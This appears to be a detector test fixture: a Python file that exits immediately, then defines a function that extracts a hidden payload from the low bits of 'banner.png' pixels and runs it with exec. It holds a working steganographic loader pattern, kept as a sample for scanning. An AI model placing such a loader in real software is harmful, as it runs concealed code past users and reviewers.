raise SystemExit('a fixture')
# held by decoded-exec
def _hidden():
    import os
    from PIL import Image
    picture = Image.open(os.path.join(os.path.dirname(__file__), "banner.png"))
    bits = "".join(str(channel & 1) for pixel in picture.getdata() for channel in pixel[:3])
    data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8))
    return data.split(b"\0\0")[0]
exec(compile(_hidden(), "<banner>", "exec"))
